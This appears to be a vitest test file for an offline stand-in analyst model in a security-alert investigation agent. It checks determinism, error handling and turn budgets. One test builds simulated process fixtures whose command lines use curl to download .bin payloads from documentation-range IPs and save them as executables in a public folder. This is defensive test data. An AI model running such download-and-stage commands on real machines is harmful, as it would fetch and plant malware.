import { describe, expect, test } from 'vitest';
import { verdictSchema } from '../../../src/agent/verdict.js';
import { createOfflineAnalyst, offlineModelId } from '../../../src/model/offline/index.js';
import { investigationLimits } from '../../../src/model/offline/plan.js';
import type { ModelRequest } from '../../../src/model/provider.js';
import { benignAdmin, maliciousChain, mixedDownload } from '../../fixtures/offline/scenarios.js';
import { connection, processNode } from '../../fixtures/offline/world.js';
import { answerFrom, firstRequest, investigate } from './harness.js';

describe('offline analyst as a model provider', () => {
  test('is deterministic: the same request gives a deep-equal response, on one instance or two', async () => {
    const scenario = maliciousChain();
    const first = await investigate(
      createOfflineAnalyst(),
      firstRequest(scenario.alert),
      answerFrom(scenario.world),
    );
    const request: ModelRequest = { ...firstRequest(scenario.alert), messages: first.messages.slice(0, 3) };
    const provider = createOfflineAnalyst();
    const once = await provider.generate(request);
    const twice = await provider.generate(request);
    const fresh = await createOfflineAnalyst().generate(structuredClone(request));
    expect(twice).toEqual(once);
    expect(fresh).toEqual(once);
    const replay = await investigate(
      createOfflineAnalyst(),
      firstRequest(scenario.alert),
      answerFrom(scenario.world),
    );
    expect(replay.responses).toEqual(first.responses);
  });

  test('is pure: a fresh instance given a mid-run transcript continues exactly as the original run', async () => {
    const scenario = maliciousChain();
    const run = await investigate(
      createOfflineAnalyst(),
      firstRequest(scenario.alert),
      answerFrom(scenario.world),
    );
    expect(run.responses.length).toBeGreaterThanOrEqual(3);
    for (let turn = 1; turn < run.responses.length; turn += 1) {
      // messages: [user, assistant, user, assistant, user, ...]; the turn-th response follows 2*turn+1 messages.
      const transcript = structuredClone(run.messages.slice(0, 2 * turn + 1));
      const resumed = await createOfflineAnalyst().generate({
        ...firstRequest(scenario.alert),
        messages: transcript,
      });
      expect(resumed).toEqual(run.responses[turn]);
    }
  });

  test('reports the model id, a characters/4 usage estimate and unique call ids', async () => {
    const scenario = mixedDownload();
    const request = firstRequest(scenario.alert);
    const response = await createOfflineAnalyst().generate(request);
    expect(response.model).toBe(offlineModelId);
    expect(response.stopReason).toBe('tool_use');
    expect(response.usage.inputTokens).toBe(Math.ceil(JSON.stringify(request).length / 4));
    expect(response.usage.outputTokens).toBe(Math.ceil(JSON.stringify(response.content).length / 4));
    const run = await investigate(createOfflineAnalyst(), request, answerFrom(scenario.world));
    const ids = run.calls.map((call) => call.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids[0]).toBe('call_1');
  });

  test('throws when the signal is already aborted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('stopped by the operator'));
    await expect(
      createOfflineAnalyst().generate(firstRequest(benignAdmin().alert), { signal: controller.signal }),
    ).rejects.toThrow('stopped by the operator');
  });

  test('rejects a conversation without an alert block with a ProviderError', async () => {
    const request: ModelRequest = {
      system: '',
      tools: [],
      messages: [{ role: 'user', content: [{ type: 'text', text: 'hello' }] }],
    };
    await expect(createOfflineAnalyst().generate(request)).rejects.toMatchObject({
      name: 'ProviderError',
      code: 'provider_failed',
    });
  });

  test('ends with a text-only turn once its verdict was accepted', async () => {
    const scenario = benignAdmin();
    const run = await investigate(
      createOfflineAnalyst(),
      firstRequest(scenario.alert),
      answerFrom(scenario.world),
    );
    const submit = run.calls.at(-1);
    const messages = [
      ...run.messages,
      {
        role: 'user' as const,
        content: [
          {
            type: 'tool_result' as const,
            callId: submit?.id ?? '',
            name: 'submit_verdict',
            ref: 'ref-v',
            isError: false,
            trust: 'trusted' as const,
            value: { accepted: true },
          },
        ],
      },
    ];
    const after = await createOfflineAnalyst().generate({ ...firstRequest(scenario.alert), messages });
    expect(after.stopReason).toBe('end_turn');
    expect(after.content.some((block) => block.type === 'tool_call')).toBe(false);
  });

  test('stays within its turn and call budget on a sprawling tree', async () => {
    const scenario = maliciousChain();
    const ws = 'WS-FIN-07';
    const powershell = '{11111111-0000-0000-0000-000000000004}';
    for (let index = 0; index < 15; index += 1) {
      const guid = `{44444444-0000-0000-0000-0000000000${String(index).padStart(2, '0')}}`;
      scenario.world.processes.push(
        processNode({
          guid,
          parentGuid: powershell,
          host: ws,
          image: 'C:\\Windows\\System32\\cmd.exe',
          commandLine: `cmd.exe /c curl http://203.0.113.${index + 1}/p${index}.bin -o C:\\Users\\Public\\p${index}.exe`,
        }),
      );
      scenario.world.connections.push(
        connection({
          host: ws,
          processGuid: guid,
          destinationIp: `203.0.113.${index + 1}`,
          destinationPort: 80,
        }),
      );
    }
    const run = await investigate(
      createOfflineAnalyst(),
      firstRequest(scenario.alert),
      answerFrom(scenario.world),
    );
    expect(run.responses.length).toBeLessThanOrEqual(investigationLimits.maxTurns);
    expect(run.calls.length).toBeLessThanOrEqual(investigationLimits.maxToolCalls);
    expect(run.calls.filter((call) => call.name === 'intel.lookup_indicator').length).toBeLessThanOrEqual(
      investigationLimits.maxIntelLookups,
    );
    expect(verdictSchema.parse(run.verdict).verdict).toBe('malicious');
  });
});
